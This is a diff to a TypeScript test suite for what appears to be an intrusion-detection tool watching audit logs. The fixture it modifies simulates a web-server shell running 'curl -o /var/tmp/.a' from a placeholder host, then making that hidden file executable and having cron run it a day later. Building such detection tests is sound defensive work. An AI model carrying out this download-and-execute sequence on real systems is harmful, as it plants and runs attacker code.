@@ -104,9 +104,15 @@ class Running {
     });
   }
 
+  /** Ends it as a user would; gives its exit code. */
+  stopped(): Promise<number | null> {
+    this.child.kill("SIGTERM");
+    return this.ended;
+  }
+
   async until(holds: () => boolean): Promise<void> {
     for (const started = Date.now(); !holds(); ) {
-      if (Date.now() - started > 20_000)
+      if (Date.now() - started > 50_000)
         throw new Error(`it did not happen. ${this.revisions.length} revisions, and: ${this.err.slice(0, 500)}`);
       await sleep(20);
     }
@@ -250,18 +256,20 @@ describe("limpid watch --follow", () => {
   it("is one finding when the file runs a day after it was dropped, with another watch in between", async () => {
     const home = folder();
     const log = join(home, "audit.log");
-    const args = ["--follow", log, "--host", "h", "--state", join(home, "state"), "--for", "5s"];
+    const args = ["--follow", log, "--host", "h", "--state", join(home, "state")];
     const scene = new Scene();
     const shell = scene.process({ image: "/usr/sbin/nginx" }).fork().exec("/usr/bin/dash", "sh -c x");
     shell.fork().exec("/usr/bin/curl", "curl -o /var/tmp/.a http://h/").create("/var/tmp/.a").chmod("/var/tmp/.a");
     writeFileSync(log, auditLog(scene.events));
     const first = new Running(args);
-    await first.ended;
+    await first.until(() => first.revisions.length >= 1);
+    await first.stopped();
     const dropped = scene.events.length;
     scene.wait(86_400_000).process({ image: "/usr/sbin/cron", uid: 0 }).fork().exec("/var/tmp/.a");
     appendFileSync(log, auditLog(scene.events.slice(dropped)));
     const second = new Running(args);
-    await second.ended;
+    await second.until(() => second.revisions.some(({ executions }) => executions.length > 0));
+    await second.stopped();
     const [before] = first.revisions;
     const after = second.revisions.at(-1);
     expect(before).toMatchObject({ revision: 1, change: "opened", executions: [] });
@@ -276,14 +284,17 @@ describe("limpid watch --follow", () => {
     const log = join(home, "audit.log");
     const state = join(home, "state");
     writeFileSync(log, intrusions(1)[0] ?? "");
-    const args = ["--follow", log, "--state", state, "--for", "5s"];
-    await new Running(args).ended;
+    const args = ["--follow", log, "--state", state];
+    const once = new Running(args);
+    await once.until(() => once.revisions.length >= 1);
+    await once.stopped();
     const [file = ""] = readdirSync(state).filter((name) => name.endsWith(".state"));
     const whole = readFileSync(join(state, file));
     expect(statSync(state).mode & 0o777).toBe(0o700);
     writeFileSync(join(state, file), whole.subarray(0, whole.length - 100));
     const again = new Running(args);
-    expect(await again.ended).toBe(1);
+    await again.until(() => again.revisions.length >= 1);
+    expect(await again.stopped()).toBe(1);
     expect(again.err).toMatch(/torn.*kept as/);
     expect(again.revisions).toHaveLength(1);
     expect(readdirSync(state).some((name) => name.includes(".unused-"))).toBe(true);
@@ -301,6 +312,7 @@ describe("limpid watch --follow", () => {
     expect(stderr).toContain(`pid ${one.child.pid}`);
     one.child.kill("SIGINT");
     expect(await one.ended).toBe(0);
+    expect((await runLimpid(["watch", ...args, "--for", "1s"])).code).toBe(0);
   });
 });
 
